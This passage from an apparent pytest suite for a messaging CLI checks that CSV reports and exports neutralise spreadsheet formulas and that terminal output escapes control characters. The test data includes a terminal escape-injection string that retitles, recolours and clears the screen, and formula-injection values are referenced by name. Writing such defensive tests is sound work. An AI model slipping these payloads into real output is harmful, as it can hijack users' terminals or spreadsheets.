    await conn.execute(failed, world.winter, "X1", ANSI, "pm-x", 5, 3)
    return world


def engine_cli(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], url: str, *args: str
) -> str:
    """``engine ARGS`` as typed, on the test's database: its stdout (it must exit 0)."""
    from engine import cli

    monkeypatch.setenv("DATABASE_URL", url)
    monkeypatch.delenv("ENGINE_CONFIG", raising=False)
    code = cli.main(list(args))
    out, err = capsys.readouterr()
    assert (code, err) == (0, "")
    return out


def failure_cells(text: str) -> list[tuple[str, str]]:
    """(error_code, sample_detail) of the failures block of ``report --format csv``."""
    failures = csv.DictReader(io.StringIO(text.split("\n\n")[2]))
    return [(f["error_code"], f["sample_detail"]) for f in failures]


def test_report_csv_neutralises_formulas_unless_raw(
    hostile: World,
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    monkeypatch.chdir(tmp_path)
    text = engine_cli(monkeypatch, capsys, database_url, "report", "winter", "--format", "csv")
    assert set(failure_cells(text)) == {("'" + FORMULA_CODE, "'" + FORMULA_DETAIL), ("X1", ANSI)}
    summary = next(csv.DictReader(io.StringIO(text.split("\n\n")[0])))
    assert 0 < Decimal(summary["delivery_rate"]) < 1  # numbers are never prefixed
    assert Decimal(summary["cost"]) > 0

    raw = engine_cli(
        monkeypatch, capsys, database_url, "report", "winter", "--format", "csv", "--raw"
    )
    assert set(failure_cells(raw)) == {(FORMULA_CODE, FORMULA_DETAIL), ("X1", ANSI)}


def test_export_neutralises_formulas_unless_raw(
    hostile: World,
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    monkeypatch.chdir(tmp_path)
    engine_cli(monkeypatch, capsys, database_url, "export", "winter", "--out", "w.csv")
    engine_cli(monkeypatch, capsys, database_url, "export", "winter", "--out", "r.csv", "--raw")
    engine_cli(monkeypatch, capsys, database_url, "export", "winter", "--out", "m.csv", "--masked")
    for name, prefix in (("w.csv", "'"), ("r.csv", ""), ("m.csv", "'")):
        with (tmp_path / name).open(newline="") as stream:
            rows = list(csv.DictReader(stream))
        formula = [r for r in rows if r["error_code"].endswith(FORMULA_CODE)]
        assert len(formula) == 5, name
        assert {(r["error_code"], r["error_detail"]) for r in formula} == {
            (prefix + FORMULA_CODE, prefix + FORMULA_DETAIL)
        }, name
        assert all(r["provider_message_id"].startswith(ANSI) for r in formula), name
        assert all(r["phone_masked"].startswith("+") for r in rows), name  # ours, as it is
        assert all(r.get("phone", "+").startswith("+") for r in rows), name
        assert all(Decimal(r["cost"]) > 0 for r in rows), name


def test_report_table_shows_control_characters_as_escapes(
    hostile: World,
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    monkeypatch.chdir(tmp_path)
    text = engine_cli(monkeypatch, capsys, database_url, "report", "winter")
    assert FORMULA_CODE in text  # a table is not a spreadsheet: formulas shown as they are
    assert not any(ch in text for ch in "\x1b\x07\x9b")
    assert "\\x1b]0;owned\\x07\\x1b[31mred\\x9b2J" in text

    raw = engine_cli(monkeypatch, capsys, database_url, "report", "winter", "--raw")
    assert "\x1b" not in raw  # --raw is about CSV cells, never about the terminal


def test_csv_to_a_terminal_escapes_control_characters_but_to_a_pipe_keeps_them(
    hostile: World,
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    monkeypatch.chdir(tmp_path)
    piped = engine_cli(monkeypatch, capsys, database_url, "report", "winter", "--format", "csv")
    assert ANSI in piped  # data for a program: exact (a formula prefix aside)

    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    for fmt in ("csv", "json"):
        shown = engine_cli(monkeypatch, capsys, database_url, "report", "winter", "--format", fmt)
        assert "\x1b" not in shown and "\x9b" not in shown, fmt
